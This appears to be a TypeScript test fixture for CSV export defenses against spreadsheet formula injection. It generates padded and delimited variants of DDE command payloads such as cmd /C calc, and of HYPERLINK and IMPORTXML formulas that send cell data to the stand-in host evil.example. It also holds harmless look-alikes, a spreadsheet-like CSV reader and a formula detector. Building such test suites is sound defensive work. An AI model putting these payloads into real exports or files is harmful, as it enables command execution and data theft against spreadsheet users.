/** Texts that a spreadsheet would run, each in a place where one of its readers begins a cell (reliability.md 3.8). */

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const orders = [
  `cmd|' /C calc'!A0`,
  '1+1',
  'SUM(1+1)*cmd',
  'HYPERLINK("https://evil.example/?x="&A1;"here")',
  'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  `5,cmd|' /C calc'!A0`,
];
const before = ['', ' ', '   ', '\u00A0', '\u3000', '\u200B', '\uFEFF', '\t', '\r', '\n', '\r\n', "'", "''", '"', '""'];
/** A reader with another delimiter, or without quotes, begins a cell in the middle of ours. */
const inside = ['x;', 'x,', 'x\t', 'x\n', 'x\r\n', 'x"', 'x";', 'x",', 'x;"', 'x; ', "x,'", 'x,\u200B', 'a,b;c\n'];
const behind = ['', ',y', ';y', '"', '\n'];

/** Far more than two hundred. */
export const formulas: readonly string[] = signs.flatMap((sign) =>
  orders.flatMap((order) => [...before, ...inside].flatMap((front) => behind.map((end) => `${front}${sign}${order}${end}`))),
);

/** Texts that look alike and are none: they are not touched. */
export const harmless: readonly string[] = [
  '-12,5',
  '3.14',
  '0042',
  "O'Neil",
  'Kowalska-Nowak',
  "'tis",
  "'-5",
  'a=b',
  'x@y.example',
  'line one\r\nline two',
  'a;b,c\td"e"f',
  'temperature, -5',
  '"quoted"',
];

export interface Reader {
  delimiters: string;
  /** Whether it knows that a cell may be in quotes. */
  quotes: boolean;
}

/** The ways spreadsheets and scripts read such a file, the wrong ones included. */
export const readers: readonly Reader[] = [';', ',', '\t', ';,\t', '|'].flatMap((delimiters) => [
  { delimiters, quotes: true },
  { delimiters, quotes: false },
]);

/** Reads CSV as a spreadsheet does: quotes count at the start of a cell, what follows the closing one belongs to it. */
export function cellsOf(csv: string, { delimiters, quotes }: Reader): string[][] {
  const text = csv.replace(/^\uFEFF/, '');
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  let isNew = true;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text.charAt(at + 1) !== '"') isQuoted = false;
      else cell += text.charAt((at += 1));
      continue;
    }
    const isEnd = delimiters.includes(sign) || sign === '\r' || sign === '\n';
    if (quotes && isNew && sign === '"') isQuoted = true;
    else if (!isEnd) cell += sign;
    isNew = isEnd;
    if (!isEnd) continue;
    rows.at(-1)?.push(cell);
    cell = '';
    if (sign === '\r' && text.charAt(at + 1) === '\n') at += 1;
    if (!delimiters.includes(sign)) rows.push([]);
  }
  if (cell !== '') rows.at(-1)?.push(cell);
  return rows.filter((row) => row.length > 0);
}

/** What a spreadsheet makes of a cell: a formula, unless it is a number. */
export function isFormula(cell: string): boolean {
  const seen = cell.replace(/^[\s\p{Cf}]+/u, '');
  return /^[=+\-@＝＋－＠]/u.test(seen) && !/^-?\d+([.,]\d+)?$/.test(seen);
}

const BLANKS = '(?:(?![\\t\\r\\n])[\\s\\p{Cf}])*';
const NO_NUMBER = `(?!'* *-?\\d+(?:[.,]\\d+)?$)`;
const ONE_AT_THE_START = new RegExp(`^'(?='*${BLANKS}[=+\\-@＝＋－＠\\t\\r\\n\\0])${NO_NUMBER}`, 'u');
const ONE_INSIDE = new RegExp(`(?<=[;,"\\t\\r\\n])'(?='*${BLANKS}[=+\\-@＝＋－＠])${NO_NUMBER}`, 'gu');

/** A cell as whoever reads the file again gets it back: exactly the apostrophes that the export set are gone (reliability.md 3.8). Nothing of the product reads CSV yet. */
export function imported(cell: string): string {
  return cell.replace(ONE_AT_THE_START, '').replace(ONE_INSIDE, '');
}
